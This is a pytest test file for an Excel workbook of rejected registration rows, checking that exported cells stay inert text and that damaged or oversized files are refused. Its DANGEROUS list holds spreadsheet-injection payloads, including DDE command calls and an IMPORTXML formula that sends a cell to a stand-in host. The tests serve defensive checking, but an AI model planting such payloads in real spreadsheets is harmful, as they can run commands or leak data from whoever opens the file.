"""The workbook of rejected rows: what is written, what a spreadsheet could do with it, what is read back."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from corpus.files import with_member
from house import registration
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from expectations.causes import CAUSES
from expectations.contract import contract, feeds
from transforms import workbook
from transforms.delivery import Delivery
from transforms.readers import Limits
from transforms.returned import NotAWorkbook, read_back
from transforms.spreadsheet import shown
from transforms.workbook import Errand, Reject, content

DAY = date(2023, 9, 30)
DELIVERY = Delivery(
    "0123456789abcdef",
    "NTB01",
    "registrations",
    DAY,
    1,
    "NTB01_registrations_2023-09-30.csv",
    "0" * 64,
    99,
    5,
    4,
    1,
)
DANGEROUS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://contoh.example","klik")',
    "{=1+1}",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '=IMPORTXML(CONCAT("http://contoh.example/",A1),"//a")',
    "http://contoh.example/",
    "mailto:orang@contoh.example",
    "internal:Sheet1!A1",
    "\uff1d1+1",
    "<script>alert(1)</script>",
    "]]>&amp;",
]
DIGITS = ["5271010107800001", "00000000001", "1e5", "5.27101E+15", "0123", "1.840.000,00", "2023-09-30", "TRUE", "NaN"]


def write(path: Path, *rejects: Reject, feed: str = "registrations") -> Path:
    delivery = replace(DELIVERY, feed=feed, file_name=DELIVERY.file_name.replace("registrations", feed))
    path.write_bytes(content("NTB01", DAY, [delivery], {feed: rejects}, {feed: contract(feed)}, conflicts={}))
    return path


def reject(line_no: int, rules: Sequence[str] = ("nik_form",), **changes: str) -> Reject:
    row = registration(line_no, **changes)
    cells = {
        str(c.header): None if row.get(c.name) is None else str(row[c.name]) for c in contract("registrations").exported
    }
    return Reject(DELIVERY.delivery_id, DELIVERY.file_name, line_no, tuple(rules), "reason", cells)


def cells_of(path: Path, sheet: str = "registrations") -> dict[str, list[openpyxl.cell.Cell]]:
    columns = openpyxl.load_workbook(path)[sheet].iter_cols()
    return {str(head.value): list(rest) for head, *rest in columns}


@pytest.mark.parametrize("value", DANGEROUS + DIGITS, ids=ascii)
def test_no_cell_can_be_executed_or_turned_into_a_number(value: str, tmp_path: Path) -> None:
    path = write(tmp_path / "w.xlsx", reject(2, full_name=value, nik=value))
    for header in ("NAMA_LENGKAP", "NIK"):
        (cell,) = cells_of(path)[header]
        assert cell.data_type == "s"
        assert cell.number_format == "@"
        assert cell.quotePrefix
        assert cell.hyperlink is None
    with zipfile.ZipFile(path) as packed:
        sheets = [packed.read(name) for name in packed.namelist() if "worksheets/" in name]
    sheets = [re.sub(rb"<dataValidations.*</dataValidations>", b"", sheet) for sheet in sheets]  # lists to choose from
    assert sheets
    assert not [s for s in sheets if b"<f" in s.replace(b"<formatCode", b"") or b"<hyperlink" in s or b"<v></v>" in s]
    (row,) = read_back(path, {"registrations": contract("registrations")}).corrections["registrations"]
    assert row.cells["NAMA_LENGKAP"] == row.cells["NIK"] == shown(value)


ANY_TEXT = st.text(st.characters(codec="utf-8"), max_size=60)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.lists(ANY_TEXT | st.sampled_from(DANGEROUS), min_size=1, max_size=5))
def test_any_text_comes_back_as_it_is_shown(values: list[str], tmp_path: Path) -> None:
    path = write(tmp_path / "w.xlsx", *(reject(n, full_name=value) for n, value in enumerate(values, start=2)))
    rows = read_back(path, {"registrations": contract("registrations")}).corrections["registrations"]
    assert [row.cells["NAMA_LENGKAP"] for row in rows] == [shown(value) for value in values]
    assert [row.line_no for row in rows] == [*range(2, len(values) + 2)]


def test_a_value_that_no_cell_holds_is_shown_in_part(tmp_path: Path) -> None:
    path = write(tmp_path / "w.xlsx", reject(2, full_name="x" * 40_000 + "\x01"))
    (row,) = read_back(path, {"registrations": contract("registrations")}).corrections["registrations"]
    assert row.cells["NAMA_LENGKAP"] == "x" * 32_767 == shown("x" * 40_000)


def test_the_offending_cells_are_coloured_and_the_words_are_in_both_languages(tmp_path: Path) -> None:
    rules = ("nik_form", "birth_date_readable", "registration_date_plausible")
    ragged = ["row_readable", "nik_present", "kpj_present"]
    torn = replace(reject(3, ragged), reason=CAUSES["columns"][0])
    path = write(tmp_path / "w.xlsx", reject(2, rules), torn, reject(4, ["no_such_rule"]))
    columns = cells_of(path)
    headers = [str(column.header) for column in contract("registrations").exported]
    coloured = [{h for h in headers if columns[h][n].fill.fgColor.rgb == "FFFFC7CE"} for n in range(3)]
    assert coloured == [{"NIK", "TGL_LAHIR", "TGL_DAFTAR"}, set(headers), set()]
    assert [*columns][3:-4] == headers
    assert [cell.value for cell in columns["BARIS"]] == ["2", "3", "4"]
    assert columns["ATURAN"][0].value == ", ".join(rules)
    assert columns["FILE"][0].value == DELIVERY.file_name
    assert "NIK terdiri dari tepat 16 angka" in str(columns["SARAN"][0].value)
    assert "A NIK is exactly 16 digits" in str(columns["ADVICE"][0].value)
    assert str(columns["SARAN"][0].value).count("\n") == 2
    assert str(columns["SARAN"][1].value).startswith("Jumlah sel baris ini tidak sama dengan judul,")
    assert columns["SARAN"][2].value == "reason", "a rule that the contract no longer has"
    book = openpyxl.load_workbook(path)
    assert book["registrations"].freeze_panes == "C2"
    assert book.sheetnames == ["KIRIMAN", "registrations"]


@pytest.mark.parametrize("feed", feeds())
def test_every_rule_that_rejects_marks_a_cell_and_says_why_in_both_languages(feed: str) -> None:
    exported = [column.name for column in contract(feed).exported]
    for rule in contract(feed).rules:
        assert workbook._offending([rule], exported) or rule.severity == "warning", rule.name
        assert rule.saran.strip()
        assert rule.saran != rule.reason
        assert rule.saran.endswith("."), rule.name


def test_the_same_rejects_are_the_same_bytes(tmp_path: Path) -> None:
    first, second = (write(tmp_path / name, reject(2), reject(3)).read_bytes() for name in ("a.xlsx", "b.xlsx"))
    assert first == second


def test_a_sheet_holds_so_many_rows_and_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "ROWS", 2)
    path = write(tmp_path / "w.xlsx", *map(reject, range(2, 7)))
    assert len(cells_of(path)["NIK"]) == 2
    told = [str(cell.value) for row in openpyxl.load_workbook(path)["KIRIMAN"].iter_rows() for cell in row]
    assert any("2 dari 5 baris di lembar ini / 2 of 5 rows" in value for value in told)


def test_what_a_spreadsheet_did_to_a_cell_is_seen(tmp_path: Path) -> None:
    path = write(tmp_path / "w.xlsx", *map(reject, range(2, 8)))
    book = openpyxl.load_workbook(path)
    sheet = book["registrations"]
    place = {cell.value: cell.column for cell in sheet[1]}
    typed = [5271010107800001, 12345678901, 1.5, date(2023, 9, 1), True, None]
    for row, value in enumerate(typed, start=2):
        sheet.cell(row, place["NIK"]).value = value
    book.save(path)
    rows = read_back(path, {"registrations": contract("registrations")}).corrections["registrations"]
    assert [row.cells["NIK"] for row in rows] == [
        "5.271010107800001E+15",
        "12345678901",
        "1.5",
        "2023-09-01",
        "TRUE",
        "",
    ]


def test_a_month_typed_as_a_date_is_a_month(tmp_path: Path) -> None:
    cells = {str(column.header): "x" for column in contract("contributions").exported}
    path = write(tmp_path / "w.xlsx", Reject("a", "f", 2, (), "", cells), feed="contributions")
    book = openpyxl.load_workbook(path)
    sheet = book["contributions"]
    for cell in sheet[1]:
        if cell.value in ("BULAN_AWAL", "TGL_BAYAR"):
            sheet.cell(2, cell.column).value = date(2023, 9, 1)
    book.save(path)
    (row,) = read_back(path, {"contributions": contract("contributions")}).corrections["contributions"]
    assert (row.cells["BULAN_AWAL"], row.cells["TGL_BAYAR"]) == ("2023-09", "2023-09-01")


def damaged(path: Path, how: str) -> None:
    book = openpyxl.load_workbook(path)
    sheet = book["registrations"]
    place = {cell.value: cell.column for cell in sheet[1]}
    if how == "line":
        sheet.cell(2, place["BARIS"]).value = "dua"
    elif how == "delivery":
        sheet.cell(2, place["KIRIMAN_ID"]).value = None
    elif how == "action":
        sheet.cell(2, place["TINDAKAN"]).value = "GANTI"
    elif how == "column":
        sheet.delete_cols(place["NIK"])
    elif how == "twice":
        sheet.cell(1, place["ADVICE"]).value = "NIK"
    else:
        del book["KIRIMAN" if how == "summary" else "registrations"]
    book.save(path)


@pytest.mark.parametrize(
    ("how", "words"),
    [
        ("line", "baris 2: kolom BARIS atau KIRIMAN_ID telah diubah"),
        ("delivery", "row 2: column BARIS or KIRIMAN_ID was changed"),
        ("action", "column TINDAKAN may only be empty or HAPUS"),
        ("column", "column NIK is missing"),
        ("twice", "kolom NIK tidak ada atau ada dua kali"),
        ("summary", "is no workbook of rejected rows"),
        ("rows", "bukan buku kerja penolakan"),
    ],
)
def test_a_damaged_workbook_is_refused_in_words(how: str, words: str, tmp_path: Path) -> None:
    path = write(tmp_path / "w.xlsx", reject(2))
    damaged(path, how)
    with pytest.raises(NotAWorkbook) as refused:
        read_back(path, {"registrations": contract("registrations")})
    assert words in str(refused.value)


@pytest.mark.parametrize("bytes_", [b"", b"PK\x03\x04", b"NIK,KPJ\n1,2\n", b"\xd0\xcf\x11\xe0"])
def test_what_is_no_workbook_is_refused_in_words(bytes_: bytes, tmp_path: Path) -> None:
    path = tmp_path / "w.xlsx"
    path.write_bytes(bytes_)
    with pytest.raises(NotAWorkbook, match="no Excel workbook that can be read"):
        read_back(path, {})


def test_a_workbook_that_unpacks_to_too_much_is_refused_as_any_file_of_a_stranger(tmp_path: Path) -> None:
    path = write(tmp_path / "w.xlsx", reject(2))
    path.write_bytes(with_member(path.read_bytes(), "xl/worksheets/sheet1.xml", b" " * (24 << 20)))
    with pytest.raises(NotAWorkbook, match="what is packed is too large"):
        read_back(path, {})


def test_a_workbook_that_takes_too_long_says_so(tmp_path: Path) -> None:
    path = write(tmp_path / "w.xlsx", reject(2))
    with pytest.raises(NotAWorkbook, match="PERISAI_READER_SECONDS"):
        read_back(path, {"registrations": contract("registrations")}, Limits(seconds=0.001))


def test_an_error_in_a_corrected_cell_comes_back_as_one(tmp_path: Path) -> None:
    path = write(tmp_path / "w.xlsx", reject(2))
    book = openpyxl.load_workbook(path)
    sheet = book["registrations"]
    place = {cell.value: cell.column for cell in sheet[1]}
    sheet.cell(2, place["KODE_PERISAI"]).value = "#N/A"
    assert sheet.cell(2, place["KODE_PERISAI"]).data_type == "e"
    book.save(path)
    (row,) = read_back(path, {"registrations": contract("registrations")}).corrections["registrations"]
    assert row.cells["KODE_PERISAI"] == "#N/A"


def test_only_what_is_to_be_corrected_can_be_changed_and_closed_lists_are_chosen_from(tmp_path: Path) -> None:
    path = tmp_path / "w.xlsx"
    rejects = {"registrations": [reject(2, ("nik_form", "sex_known")), reject(3, ["no_such_rule"])]}
    rules = {"registrations": contract("registrations")}
    regions = [f"{n}" for n in range(1101, 1601)]
    errand = Errand("NTB01", due={DELIVERY.delivery_id: "2023-10-04, 12:00 WITA"})
    path.write_bytes(
        content("NTB01", DAY, [DELIVERY], rejects, rules, conflicts={}, errand=errand, named={"regions": regions})
    )
    book = openpyxl.load_workbook(path)
    assert all(sheet.protection.sheet and not sheet.protection.password for sheet in book if sheet.title != "DAFTAR")
    columns = cells_of(path)
    open_cells = [{h for h, cells in columns.items() if not cells[row].protection.locked} for row in (0, 1)]
    headers = {str(column.header) for column in rules["registrations"].exported}
    assert open_cells == [{"TINDAKAN", "NIK", "JENIS_KELAMIN"}, {"TINDAKAN", *headers}], "nobody knows what is wrong"
    letters = {columns[h][0].column_letter: h for h in columns}
    lists = {
        letters[str(rule.sqref).split("2")[0].rstrip("0123456789:")]: rule.formula1
        for rule in book["registrations"].data_validations.dataValidation
    }
    assert lists["TINDAKAN"] == '"HAPUS"'
    assert lists["JENIS_KELAMIN"] == '"L,P"'
    assert lists["PROGRAM"] == '"2,3"'
    assert lists["KODE_KAB_KOTA"] == "DAFTAR!$A$1:$A$500"
    assert book["DAFTAR"].sheet_state == "hidden"
    assert [row[0] for row in book["DAFTAR"].iter_rows(values_only=True)] == regions
    said = [str(cell.value) for row in book["KIRIMAN"].iter_rows() for cell in row if cell.value]
    assert said[0] == "NTB01 2023-09-30"
    assert said[1] == "YANG DILAKUKAN", "in Bahasa Indonesia first"
    assert said.count("2023-10-04, 12:00 WITA (registrations)") == 2
    assert any("folder NTB01" in words for words in said)
    (row, _) = read_back(path, rules).corrections["registrations"]
    assert row.cells["KODE_KAB_KOTA"] == "5271"


def test_without_a_deadline_none_is_made_up(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(write(tmp_path / "w.xlsx", reject(2)))
    said = [str(cell.value) for row in book["KIRIMAN"].iter_rows() for cell in row]
    assert "as soon as you can; no deadline is set" in said
